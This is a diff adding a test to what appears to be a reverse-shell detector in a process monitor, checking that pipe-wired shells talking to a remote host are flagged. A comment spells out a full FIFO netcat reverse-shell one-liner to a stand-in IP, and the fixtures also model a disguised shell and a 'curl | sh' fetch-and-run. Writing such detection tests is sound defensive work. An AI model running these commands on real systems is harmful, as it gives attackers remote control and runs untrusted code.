@@ -302,3 +302,33 @@ def test_a_process_with_its_stdio_on_a_remote_tcp_connection_is_a_reverse_shell(
     assert [(t.level, t.category) for t in found] == [("critical", "reverse_shell")]
     assert "PID 10" in found[0].description and "203.0.113.7:443" in found[0].description
     assert found[0].evidence["connection"] == {"remote": "203.0.113.7:443", "fd": 0}
+
+
+def test_a_shell_fed_from_and_answering_the_network_through_pipes_is_a_reverse_shell() -> None:
+    from coi.monitor.collect import Conn
+    from coi.monitor.detect import pipe_shells
+
+    conns = [Conn("tcp", "10.0.0.2:40000", "203.0.113.7:443", "ESTABLISHED", 1000, inode=9)]
+
+    def proc(pid: int, cmd: str, stdio: dict[int, str], files: tuple[str, ...] = ()) -> Proc:
+        p = _sock_proc(pid, cmd, stdio)
+        p.files.extend([*stdio.values(), *files])
+        return p
+
+    # cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 > /tmp/f
+    # (cat opens the FIFO as fd 3: its stdin is the script's, as seen in a container)
+    cat = proc(20, "cat /tmp/f", {0: "pipe:[99]", 1: "pipe:[100]"}, ("/tmp/f",))
+    sh = proc(21, "/tmp/kworker -i", {0: "pipe:[100]", 1: "pipe:[101]", 2: "pipe:[101]"})
+    nc = proc(22, "nc 203.0.113.7 443", {0: "pipe:[101]", 1: "/tmp/f"}, ("socket:[9]",))
+    (threat,) = pipe_shells([cat, sh, nc], conns)
+    assert "PID 21" in threat.description and threat.level == "critical"
+    assert threat.evidence["network_peer"]["pid"] == 22
+
+    # curl | sh: fed from the network, but answering the terminal.
+    curl = proc(30, "curl -s https://x/install.sh", {0: "/dev/null", 1: "pipe:[200]"},
+                ("socket:[9]",))  # fmt: skip
+    sh2 = proc(31, "sh", {0: "pipe:[200]", 1: "/dev/pts/0", 2: "/dev/pts/0"})
+    # make | nc: answering the network, fed by no one from it.
+    make = proc(40, "make", {0: "/dev/null", 1: "pipe:[300]"})
+    nc2 = proc(41, "nc 203.0.113.7 443", {0: "pipe:[300]", 1: "/dev/null"}, ("socket:[9]",))
+    assert pipe_shells([curl, sh2, make, nc2], conns) == []
